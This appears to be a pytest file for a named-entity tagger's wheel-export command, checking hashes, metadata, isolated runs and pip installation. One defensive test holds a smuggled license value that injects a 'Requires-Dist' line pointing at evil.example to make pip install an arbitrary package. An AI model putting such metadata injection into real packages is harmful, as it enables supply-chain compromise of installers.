"""A wheel holds a model and all that runs it."""

import base64
import csv
import hashlib
import json
import os
import subprocess
import sys
import venv
import zipfile
from email import message_from_bytes

import helpers
import pytest
from conftest import REPOSITORY, build_model
from test_runtime import REFUSED

from hf_xorner import Tagger
from hf_xorner.cli import main

TEXT = "Ann Smith met Zeus in Rome."
CARD = "---\nlicense: mit\n---\n# A tagger\n"


@pytest.fixture
def saved(tokenizer, tmp_path):
    """A saved model with a card."""
    Tagger(build_model("lstm-crf", tokenizer), tokenizer).save_pretrained(tmp_path / "model")
    (tmp_path / "model" / "README.md").write_text(CARD)
    return tmp_path / "model"


def wheel_of(model, folder):
    main("export", [str(model), "--to", "package", "--name", "my_ner", "--version", "1.2", "--output", str(folder)])
    return folder / "my_ner-1.2-py3-none-any.whl"


def printed_entities(output):
    record = json.loads(output)
    return record["text"], [(entity["label"], entity["start"], entity["end"]) for entity in record["entities"]]


def entities_by(model, text):
    return text, [(entity.label, entity.start, entity.end) for entity in Tagger.from_pretrained(str(model))(text)]


def test_a_wheel_names_its_files_and_the_facts_of_the_card(saved, tmp_path):
    with zipfile.ZipFile(wheel_of(saved, tmp_path)) as archive:
        contents = {name: archive.read(name) for name in archive.namelist()}
    record = {name: digest for name, digest, _ in csv.reader(contents["my_ner-1.2.dist-info/RECORD"].decode().split())}
    assert record.pop("my_ner-1.2.dist-info/RECORD") == ""
    assert record == {
        name: "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(content).digest()).decode().rstrip("=")
        for name, content in contents.items()
        if not name.endswith("/RECORD")
    }
    metadata = message_from_bytes(contents["my_ner-1.2.dist-info/METADATA"])
    assert [metadata[name] for name in ("Name", "Version", "License")] == ["my_ner", "1.2", "mit"]
    assert {requirement.split(">")[0] for requirement in metadata.get_all("Requires-Dist")} == {
        "numpy",
        "onnxruntime",
        "tokenizers",
    }
    assert metadata.get_payload() == "# A tagger\n"
    assert "my_ner/py.typed" in contents  # type checkers read the annotations


def test_metadata_of_a_card_cannot_add_fields_to_those_for_pip(saved, tmp_path):
    """`License: mit` followed by `Requires-Dist: …` would install any package."""
    for license in ("mit\nRequires-Dist: evil @ https://evil.example/x.whl", "evil", "cc-by-4.0"):
        card = f"---\nlicense: {json.dumps(license)}\n---\nRequires-Dist: evil\n\nÀ suivre.\nFrom here\n"
        (saved / "README.md").write_text(card, encoding="utf-8")
        with zipfile.ZipFile(wheel_of(saved, tmp_path)) as archive:
            metadata = message_from_bytes(archive.read("my_ner-1.2.dist-info/METADATA"))
        assert metadata["License"] == ("cc-by-4.0" if license == "cc-by-4.0" else "other")
        assert not [name for name in metadata.get_all("Requires-Dist") if "evil" in name]
        assert metadata.get_payload(decode=True).decode() == "Requires-Dist: evil\n\nÀ suivre.\nFrom here\n"


def test_a_wheel_tags_where_nothing_else_can_be_imported(saved, tmp_path):
    with zipfile.ZipFile(wheel_of(saved, tmp_path)) as archive:
        archive.extractall(tmp_path / "site")
    code = REFUSED.replace("onnx_tagger", "my_ner") + "import my_ner\nmy_ner.main()"
    command = [sys.executable, "-c", code, tmp_path / "site"]
    done = subprocess.run([*command, TEXT], capture_output=True, timeout=60)
    assert done.stderr == b""
    assert printed_entities(done.stdout) == entities_by(saved, TEXT)
    latin = {**os.environ, "PYTHONIOENCODING": "latin-1"}  # as in a pipe on Windows
    done = subprocess.run(command, input=f"\ufeff{TEXT}\r\n".encode(), capture_output=True, timeout=60, env=latin)
    assert printed_entities(done.stdout) == entities_by(saved, TEXT)
    done = subprocess.run(command, input=b"Zo\xeb\n", capture_output=True, timeout=60)
    assert done.returncode == 1 and b"Traceback" not in done.stderr


@helpers.posix
def test_a_wheel_tags_where_nobody_reads_its_output(saved, tmp_path):
    with zipfile.ZipFile(wheel_of(saved, tmp_path)) as archive:
        archive.extractall(tmp_path / "site")
    code = REFUSED.replace("onnx_tagger", "my_ner") + "import my_ner\nmy_ner.main()"
    reader, closed = os.pipe()
    os.close(reader)
    command = [sys.executable, "-c", code, tmp_path / "site", TEXT]
    assert subprocess.run(command, stdout=closed, stderr=subprocess.PIPE, timeout=60).stderr == b""


@pytest.mark.parametrize(
    "options",
    [
        ["--to", "package"],
        ["--to", "package", "--name", "my-ner"],
        ["--to", "package", "--name", "my_ner", "--version", "new"],
        ["--name", "my_ner"],
    ],
)
def test_names_and_versions_that_pip_refuses_are_refused(saved, tmp_path, capsys, options):
    with pytest.raises(SystemExit):
        main("export", [str(saved), *options, "--output", str(tmp_path / "dist")])
    assert len(capsys.readouterr().err.splitlines()) == 1
    assert not (tmp_path / "dist").exists()


@pytest.mark.slow
def test_pip_installs_the_wheel_of_the_shipped_model(tmp_path):
    model = REPOSITORY / "model_cards" / "english-ner-small"
    venv.create(tmp_path / "env", with_pip=True)
    binaries = tmp_path / "env" / "bin"
    subprocess.run([binaries / "pip", "install", "-q", wheel_of(model, tmp_path)], check=True)
    assert subprocess.run([binaries / "python", "-c", "import torch"], capture_output=True).returncode
    text = "Imran Vale flew from Oslo to Siemens."
    done = subprocess.run([binaries / "my-ner", text], check=True, capture_output=True)
    assert printed_entities(done.stdout) == entities_by(model, text)
